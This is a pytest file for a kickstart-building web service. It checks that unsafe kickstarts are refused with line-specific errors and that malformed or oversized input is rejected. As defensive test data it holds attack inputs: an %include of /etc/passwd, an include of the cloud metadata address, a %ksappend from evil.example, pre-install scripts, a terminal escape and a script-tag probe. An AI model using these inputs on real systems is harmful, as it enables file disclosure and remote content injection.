# SPDX-License-Identifier: MIT
"""Bad kickstarts at the door: by API, form and dispatcher each is refused in a sentence with its line, and soon."""

from __future__ import annotations

import time
from typing import Any

import pytest
from flask.testing import FlaskClient

from ondemand_web.builds import checks
from ondemand_web.service import Service

pytestmark = pytest.mark.filterwarnings("ignore::pykickstart.errors.KickstartWarning")
HEAD = "lang C\n%packages\n@core\n%end\n"
BAD = {
    "unknown command": ("lang C\nfrobnicate\n", "line 2 can't be read"),
    "unknown section": (f"{HEAD}%surprise\nx\n%end\n", "line 5 can't be read"),
    "section without end": ("lang C\n%packages\nbash\n", "line 3 can't be read, because Section %packages does not end"),
    "end without section": ("lang C\n%end\n", "line 2 can't be read"),
    "%include": (f"{HEAD}%include /etc/passwd\n", "line 5 has %include"),
    "%include of a URL in %packages": ("%packages\n%include http://169.254.169.254/x\n%end\n", "line 2 has %include"),
    "%include after blanks": ("lang C\n\t %include /etc/passwd\n", "line 2 has %include"),
    "%ksappend": ("%ksappend http://evil.example/x\n", "line 1 has %ksappend"),
    "%pre": (f"{HEAD}%pre\nid\n%end\n", "line 5 has a script that is no %post"),
    "%pre-install": (f"{HEAD}%pre-install\nid\n%end\n", "line 5 has a script that is no %post"),
    "%traceback": (f"{HEAD}%traceback\nid\n%end\n", "line 5 has a script that is no %post"),
    "%post --nochroot": (f"{HEAD}%post --nochroot\nid\n%end\n", "line 5 has %post --nochroot"),
    "1,001 commands": ("lang C\n" * 1001, "line 1001 can't be read"),
    "201 patterns": ("%packages\n" + "\n".join(f"a{n}*" for n in range(201)) + "\n%end\n", "more than 200 patterns"),
}


@pytest.mark.parametrize("name", BAD)
def test_a_check_refuses_it_with_its_line(web: FlaskClient, name: str) -> None:
    text, said = BAD[name]
    answer = web.post("/api/v1/check", json={"release": "f44", "kickstart": text})
    assert (answer.status_code, answer.get_json()["code"]) == (422, "kickstart-invalid")
    assert said in answer.get_json()["detail"] and "\n" not in answer.get_json()["detail"]


@pytest.mark.parametrize("name", ["unknown section", "%include", "%pre", "%post --nochroot"])
def test_a_build_of_it_is_refused_with_its_line_and_shown_so(here: Service, web: FlaskClient, name: str) -> None:
    text, said = BAD[name]
    build_id = web.post("/api/v1/builds", json={"release": "f44", "kickstart": text}).get_json()["id"]
    assert checks.check_next(here)
    record = web.get(f"/api/v1/builds/{build_id}").get_json()
    assert (record["state"], record["error"]["code"]) == ("refused", "kickstart-invalid") and said in record["error"]["sentence"]


@pytest.mark.parametrize(
    ("text", "said"),
    [("x" * 5_000_000, "at most 512000"), ("lang C\n\0\n", "U+0000"), ("a\x1b[2J", "U+001B"), ("", "at least 1"), (5, "string")],
    ids=["5 MB", "NUL", "terminal", "empty", "number"],
)
@pytest.mark.parametrize("path", ["builds", "check"])
def test_what_is_no_such_text_is_refused_at_once_by_both_calls(web: FlaskClient, path: str, text: Any, said: str) -> None:
    began = time.monotonic()
    answer = web.post(f"/api/v1/{path}", json={"release": "f44", "kickstart": text})
    assert (answer.status_code, answer.get_json()["code"]) == (422, "invalid-request") and said in answer.get_json()["detail"]
    assert time.monotonic() - began < 3


def test_a_body_beyond_every_limit_is_not_read(web: FlaskClient) -> None:
    answer = web.post("/api/v1/builds", data=b"x" * 10 * 1024**2, content_type="application/json")
    assert (answer.status_code, answer.get_json()["code"]) == (413, "http-error")


def test_the_form_refuses_five_megabytes_too(web: FlaskClient) -> None:
    sent = {"release": "f44", "image_type": "live", "kickstart": "x" * 5_000_000, "do": "build"}
    answer = web.post("/new", data=sent, headers={"Accept": "text/html"})
    assert answer.status_code in (413, 422) and "Traceback" not in answer.text


def test_nothing_of_a_kickstart_s_text_becomes_part_of_the_page(here: Service, web: FlaskClient) -> None:
    text = "lang C\n<script>alert(1)</script>\n"
    build_id = web.post("/api/v1/builds", json={"release": "f44", "kickstart": text}).get_json()["id"]
    assert checks.check_next(here)
    assert "<script>alert" not in web.get(f"/builds/{build_id}", headers={"Accept": "text/html"}).text
